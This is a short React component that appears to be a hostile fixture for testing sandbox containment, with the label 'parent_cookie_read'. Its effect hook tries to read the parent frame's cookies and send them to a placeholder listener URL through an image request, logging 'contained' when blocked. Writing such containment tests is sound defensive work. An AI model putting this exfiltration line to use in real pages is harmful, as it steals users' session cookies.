import { useEffect } from "react";

// Escape attempt: parent_cookie_read
export default function Hostile() {
  useEffect(() => {
    try {
      new Image().src = "__LISTENER__/parent_cookie_read?" + parent.document.cookie;
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, []);
  return <p data-testid="hostile">parent_cookie_read</p>;
}
